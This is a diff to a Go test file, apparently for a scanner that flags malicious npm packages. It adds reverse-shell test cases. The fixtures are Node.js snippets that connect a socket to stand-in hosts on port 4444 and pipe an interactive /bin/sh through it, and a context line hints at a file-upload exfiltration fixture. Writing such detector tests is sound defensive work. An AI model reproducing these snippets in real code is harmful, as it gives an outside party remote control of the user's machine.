@@ -168,6 +168,10 @@ require("child_process").spawn("sh", ["-c", ` + "`${bin} -sk --data-binary @${f}
 
 func TestReverseShell(t *testing.T) {
 	rt.Check(t, ReverseShell{}, []rt.Case{
+		// the user's shell or /bin/sh, interactive, wired to the socket
+		{"env_shell_interactive", map[string]string{"index.js": `const net = require("net"), cp = require("child_process"); const s = net.connect(4444, host); s.on("connect", () => { const w = cp.spawn(process.env.SHELL || "/bin/sh", ["-i"], { stdio: "pipe" }); s.pipe(w.stdin); w.stdout.pipe(s); w.stderr.pipe(s) })`}, finding.SeverityCritical},
+		// the same shell told to run one command
+		{"env_shell_command", map[string]string{"index.js": `const net = require("net"), cp = require("child_process"); const s = net.connect(4444, host); s.on("connect", () => { const w = cp.spawn(process.env.SHELL || "/bin/sh", ["-c", "uptime"]); w.stdout.pipe(s) })`}, finding.SeverityNone},
 		{"socket_shell", map[string]string{"index.js": `const net=require("net"),{spawn}=require("child_process");const c=new net.Socket();c.connect(4444,"203.0.113.5",()=>{const sh=spawn("/bin/sh",[]);c.pipe(sh.stdin);sh.stdout.pipe(c)})`}, finding.SeverityCritical},
 		{"shell_by_platform", map[string]string{"index.js": `const net=require("net"),{spawn}=require("child_process");const s=new net.Socket();s.connect(4444,"shell.example.invalid",()=>{
 const sh = spawn(process.platform === "win32" ? "cmd.exe" : "/bin/sh", []);
